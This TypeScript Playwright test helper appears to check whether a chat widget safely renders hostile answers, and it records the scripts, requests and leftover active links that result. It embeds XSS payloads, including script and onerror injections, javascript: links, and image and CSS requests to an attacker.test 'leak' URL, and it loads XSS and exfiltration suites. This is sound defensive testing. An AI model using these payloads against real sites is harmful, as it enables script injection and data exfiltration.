import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { Chat } from './chat.ts'
import { showAnswers } from './show-answers.ts'

/** A page with the chat on it. */
export interface Place {
  readonly url: string
  /** The chat is a part of the page, and has no launcher. */
  readonly isInline: boolean
}

/** What hostile answers have caused; empty lists when nothing. */
export interface Exposure {
  /** Scripts that ran, by what was noticed of them. */
  readonly scripts: readonly string[]
  /** Requests that were made, and those that the page's policy forbade. */
  readonly requests: readonly string[]
  /** Links and parts that were left and could act. */
  readonly left: readonly string[]
}

/** Of the places where answers are cut. */
export const SEED = 57
/** What everybody has who has not the suites. */
const USUAL = [
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><style>@import url(https://attacker.test/x)</style></svg>',
  '[a](javascript:alert(1)) ![b](https://attacker.test/leak?q=1) ![c](/logout)',
  '<form action=https://attacker.test><button formaction=javascript:alert(1)>x</button></form>',
]

/** The usual ones, and the public attack suites in the folder that `CORPUS_DIR` names. */
export async function hostileAnswers(): Promise<readonly string[]> {
  return [...USUAL, ...(await suite('xss-payloads')), ...(await suite('exfil-payloads'))]
}

/** The payloads of a public attack suite; none without `CORPUS_DIR`. */
async function suite(name: string): Promise<readonly string[]> {
  const folder = process.env['CORPUS_DIR']
  if (!folder) return []
  const { cases } = JSON.parse(await readFile(join(folder, `${name}.json`), 'utf8')) as {
    cases: readonly { payload: string }[]
  }
  return cases.map(({ payload }) => payload)
}

/**
 * The places where hostile answers are shown.
 * @param site address of the demo site
 * @param host address of the page that changes everything
 */
export const places = (
  site: string,
  host: string,
): Readonly<Record<'bare' | 'hostile' | 'strict', Place>> => ({
  bare: { url: `${host}/clean`, isInline: false },
  hostile: { url: host, isInline: false },
  strict: { url: `${site}/examples/strict/`, isInline: true },
})

/** Shows each payload as an answer at `place`, whole and in pieces; `html` where the site allows HTML in answers. */
export async function expose(
  page: Page,
  place: Place,
  { payloads, html }: { readonly payloads: readonly string[]; readonly html: boolean },
): Promise<Exposure> {
  const { scripts, requests } = watch(page)
  await page.goto(place.url)
  const chat = new Chat(page)
  if (!place.isInline) await chat.open()
  // Everything that shows answers is there then.
  await chat.ask('Thanks')
  await chat.settle()
  await showAnswers(page, { payloads: ['<b>warm</b>'], html, seed: SEED })
  scripts.length = requests.length = 0
  return { scripts, requests, left: await showAnswers(page, { payloads, html, seed: SEED }) }
}

/** Everything that a hostile answer could cause, as it happens. */
export function watch(page: Page): { readonly scripts: string[]; readonly requests: string[] } {
  const scripts: string[] = []
  const requests: string[] = []
  page.on('request', (request) => void requests.push(request.url()))
  page.on('dialog', (dialog) => {
    scripts.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('pageerror', (error) => void scripts.push(`error ${error.message}`))
  page.on('popup', () => void scripts.push('popup'))
  page.on('console', (message) => {
    // What a policy forbade was tried. A request that failed has been counted.
    const isCounted = message.text().startsWith('Failed to load resource')
    if (message.type() === 'error' && !isCounted) requests.push(`console ${message.text()}`)
  })
  return { scripts, requests }
}
